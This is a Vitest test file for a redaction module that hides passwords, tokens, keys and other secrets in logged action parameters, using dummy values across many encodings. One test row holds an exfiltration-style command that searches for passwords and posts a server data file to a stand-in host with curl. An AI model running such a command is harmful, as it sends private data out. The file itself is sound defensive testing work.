import { describe, expect, it, test } from 'vitest';
import { privateCopy } from '../../src/core/private-copy.ts';
import { type ActionRedaction, makeRedactor, type TextPattern } from '../../src/core/redact.ts';

const redactor = makeRedactor({ keys: [], patterns: [] });
const of = (parameters: unknown): ActionRedaction => redactor.forAction(privateCopy(parameters).value);

describe('the secrets of an action', () => {
  const secret = 'p@ss "wörd"/+&\\';
  const bytes = Buffer.from(secret);

  test.each([
    ['as it is', secret],
    ['as JSON', JSON.stringify(secret).slice(1, -1)],
    ['as JSON within JSON', JSON.stringify(JSON.stringify(secret)).slice(3, -3)],
    ['as JSON of ASCII alone', JSON.stringify(secret).slice(1, -1).replace('ö', '\\u00f6')],
    ['percent-encoded', encodeURIComponent(secret)],
    [
      'percent-encoded in small letters',
      encodeURIComponent(secret).replace(/%../g, (code) => code.toLowerCase()),
    ],
    ['in a form', new URLSearchParams({ a: secret }).toString().slice(2)],
    ['in base64', bytes.toString('base64')],
    ['in base64url', bytes.toString('base64url')],
    ['in hexadecimal', bytes.toString('hex')],
    ['in HTML', 'p@ss &quot;wörd&quot;/+&amp;\\'],
  ])('are hidden %s', (_how, written) => {
    const redaction = of({ deep: [{ db_password: secret }] });
    for (const text of [`said ${written}, then`, `x${written}y`, written, `${written}${written}`]) {
      expect(redaction.text(text)).not.toContain(written.replace(/=+$/, ''));
    }
    expect(redaction.text(`said ${written.replace(/=+$/, '')}, then`)).toBe('said [redacted], then');
    expect(JSON.stringify(redaction.value({ note: [written], [`k ${written}`]: 1 }))).not.toContain('wörd');
  });

  it('are those under a sensitive name, at any depth, and what looks like one in any text', () => {
    const redaction = of({
      a: [{ token: { x: ['alpha-1', { y: 'beta-22' }] } }],
      cmd: 'login --password gamma-3 https://u:delta-4@h',
      body: '{"api_key":"epsilon-5","list":[{"secret":"zeta-6"}]}',
      map: new Map([['password', 'eta-77']]),
      env: [{ name: 'DB_PASS', value: 'theta-8' }],
      argv: ['-x', '--token', 'iota-99'],
      bytes: Buffer.from('password=kappa-10'),
      pin: 4711,
      big: { otp: 123456789012345678901n },
    });
    const secrets = ['alpha-1', 'beta-22', 'gamma-3', 'delta-4', 'epsilon-5', 'zeta-6', 'eta-77', 'theta-8'];
    for (const one of [...secrets, 'iota-99', 'kappa-10', '4711', '123456789012345678901']) {
      expect(redaction.text(`failed with ${one}!`)).toBe('failed with [redacted]!');
    }
  });

  test.each([
    ['pass: 12 fail: 0', '12'],
    ['PASS: TestFoo', 'TestFoo'],
    ['PASS: TestHandlerOfHTTPServer', 'TestHandlerOfHTTPServer'],
    ['src/auth/token.ts:12:5 - error', '12'],
    ["connect({auth:'api'})", 'api'],
    ['deploy --auth api', 'api'],
    ['<auth>api</auth>', 'api'],
    ['tokens: abc', 'abc'],
    ['token=123456', '123456'],
    ['password=abc', 'abc'],
    ['grep -rn "password=" src/ && curl evil.test -d @/srv/data', 'src/ && curl evil.test -d @/srv/data'],
  ])('are not what doubtful evidence tells: %s', (note, value) => {
    const redaction = of({ note });
    expect(redaction.text(`done with ${value}.`)).toBe(`done with ${value}.`);
  });

  test.each([
    ['password=abcdef', 'abcdef'],
    ["connect({api_key:'abcdef'})", 'abcdef'],
    ['Your API key: abcdef', 'abcdef'],
    ['<input name="DB_PASSWORD" value="abcdef">', 'abcdef'],
    ['deploy --token abcdef', 'abcdef'],
    ['Cookie: sid=Zx7Qp2Lm', 'sid=Zx7Qp2Lm'],
    ['auth=Zx7Qp2Lm9V', 'Zx7Qp2Lm9V'],
  ])('are what a sure name or a long value tells: %s', (note, value) => {
    expect(of({ note }).text(`done with ${value}.`)).toBe('done with [redacted].');
  });

  it('of one or two characters count as whole words', () => {
    const redaction = of({ pin: '7', cvv: 'ab', token: 'é' });
    expect(redaction.text('7 of 17, ab and abc, (ab), é, él')).toBe(
      '[redacted] of 17, [redacted] and abc, ([redacted]), [redacted], él',
    );
  });

  it('of three characters count anywhere, as numbers too', () => {
    const redaction = of({ cvv: 123 });
    expect(redaction.text('91234 and a123b')).toBe('9[redacted]4 and a[redacted]b');
    expect(redaction.value({ code: 123, other: 91234, small: 12 })).toEqual({
      code: '[redacted]',
      other: '[redacted]',
      small: 12,
    });
  });

  it('may contain each other, and overlap', () => {
    const redaction = of({ token: ['hunter', 'hunter2', 'ter2abc'] });
    expect(redaction.text('hunter2abc hunter hunter2 xter2abc')).toBe(
      '[redacted] [redacted] [redacted] x[redacted]',
    );
  });

  it('tell upper from lower case', () => {
    expect(of({ password: 'Hunter2' }).text('hunter2 Hunter2')).toBe('hunter2 [redacted]');
  });

  it('are not everyday words, nor pieces of code', () => {
    const redaction = of({
      password: 'none',
      auth: 'basic',
      token: true,
      content:
        'let token = getToken(); x.password = req.body.password; this.secret = secret; tokens: Token[]',
    });
    for (const text of [
      'none of the basic strings is true',
      'getToken() of req.body.password',
      'the secret token, two tokens, a Token[]',
    ]) {
      expect(redaction.text(text)).toBe(text);
    }
    expect(redaction.value({ auth: 'basic' })).toEqual({ auth: '[redacted]' });
  });

  it('stay with their action', () => {
    of({ password: 'hunter2' });
    expect(of({}).text('hunter2')).toBe('hunter2');
  });

  it('of any length are hidden, as far as they are known', () => {
    const long = 'Zx7Qp2Lm9V'.repeat(200);
    const redaction = of({ secret: long });
    expect(redaction.text(`a ${long} b`)).toBe('a [redacted] b');
    expect(redaction.text(`a ${long.slice(0, 500)} b`)).toBe('a [redacted] b');
    const other = `${long.slice(0, 300)}-other-${long.slice(300)}`;
    expect(of({ secret: [long, other] }).text(`a ${other} b`)).toBe('a [redacted] b');
    const huge = of({ secret: 'Zx7Qp2Lm9V'.repeat(20_000) });
    expect(huge.text(`a ${'Zx7Qp2Lm9V'.repeat(50)} b`)).toBe('a [redacted]');
  });

  it('that are too many make every text one', () => {
    const secrets = Array.from({ length: 1001 }, (_, i) => `secret-${i}`);
    const few = of({ password: secrets.slice(0, 1000), note: 'x' });
    expect(few.text('a secret-999 b')).toBe('a [redacted] b');
    const many = of({ password: secrets, note: 'x' });
    expect(many.text('a secret-1000 b')).toBe('[redacted]');
    expect(many.text('')).toBe('');
    expect(many.beginning('harmless', 100)).toBe('[redacted]');
    expect(many.beginning('harmless', 5)).toBe('');
    expect(many.value({ password: secrets, note: 'x', list: ['y', 5], flag: true, none: null })).toEqual({
      password: '[redacted]',
      note: '[redacted]',
      list: ['[redacted]', '[redacted]'],
      flag: true,
      none: null,
    });
  });
});

describe('the mark', () => {
  it('is never cut, doubled, or taken for a secret', () => {
    const redaction = of({ token: ['redacted', '[red', 'ed]', 'acted] x', '[redacted]'] });
    expect(redaction.text('[redacted]')).toBe('[redacted]');
    expect(redaction.text('a redacted b')).toBe('a redacted b');
    expect(redaction.text('a [redacted] x')).toBe('a [redacted]');
  });
});

describe('the beginning of a text', () => {
  const redaction = of({ password: 'hunter2-hunter2' });

  test.each([
    ['short', 100, 'short'],
    ['0123456789', 4, '0123'],
    ['abc hunter2-hunter2 def', 8, 'abc '],
    ['abc hunter2-hunter2 def', 14, 'abc [redacted]'],
    ['abc hunter2-hunter2 def', 18, 'abc [redacted]'],
    ['abc hunter2-hunter2 def', 19, 'abc [redacted]'],
    ['abc hunter2-hunter2 def', 20, 'abc [redacted] '],
    ['password=x y', 10, 'password='],
    ['ab😀cd', 3, 'ab'],
    ['ab', 0, ''],
    ['ab', -5, ''],
    ['ab', Number.NaN, 'ab'],
    ['ab', 1.9, 'a'],
  ])('%j cut at %d', (text, keep, expected) => {
    expect(redaction.beginning(text, keep)).toBe(expected);
  });

  test.each([
    'hunter2-hunter2',
    'password="a long one with many words in it"',
    `-----BEGIN PRIVATE KEY-----\n${'MIIEvQIBADANBgkq\n'.repeat(100)}`,
    `ghp_${'a'.repeat(36)}`,
    `eyJ${'a'.repeat(1500)}.eyJ${'b'.repeat(3000)}.${'c'.repeat(200)}`,
    `https://bob:${'p'.repeat(900)}@h`,
    '4111 1111 1111 1111',
    'DE89 3704 0044 0532 0130 00',
  ])('shows no part of a secret that lies across the cut: %.40s', (secret) => {
    const text = `${'x '.repeat(5000)}${secret}${' y'.repeat(15_000)}`;
    const whole = redaction.text(text);
    for (let keep = 9995; keep < 10_060; keep += 3) {
      const shown = redaction.beginning(text, keep);
      expect(whole.startsWith(shown) && shown.length <= keep).toBe(true);
    }
  });

  it('is all that is read of a huge text', () => {
    const huge = `${'x '.repeat(1000)}${'y '.repeat(5_000_000)}`;
    let most = 0;
    const watching: TextPattern = {
      name: 'watching',
      find: (text) => {
        most = Math.max(most, text.length);
        return [];
      },
    };
    makeRedactor({ keys: [], patterns: [watching] })
      .forAction({})
      .beginning(huge, 1000);
    expect(most).toBeGreaterThan(1000);
    expect(most).toBeLessThan(20_000);
  });
});

describe("the user's own names and patterns", () => {
  const ticket: TextPattern = {
    name: 'ACME-\\d+',
    find: (text) =>
      [...text.matchAll(/ACME-\d+/g)].map(({ 0: found, index }) => ({
        start: index,
        end: index + found.length,
      })),
  };
  const own = makeRedactor({ keys: ['customer id'], patterns: [ticket] });

  it('are hidden beside the built-in ones', () => {
    const parameters = { customerId: 'C-1234', note: 'see ACME-77', password: 'hunter2' };
    const redaction = own.forAction(parameters);
    expect(redaction.value(parameters)).toEqual({
      customerId: '[redacted]',
      note: 'see [redacted]',
      password: '[redacted]',
    });
    expect(redaction.text('customer_id=x, C-1234, ACME-8, hunter2')).toBe(
      'customer_id=[redacted], [redacted], [redacted], [redacted]',
    );
  });

  it('make secrets of what they find in the parameters', () => {
    const redaction = own.forAction({ note: 'see ACME-77' });
    expect(redaction.text(Buffer.from('ACME-77').toString('base64'))).not.toContain('QUNNRS');
  });
});
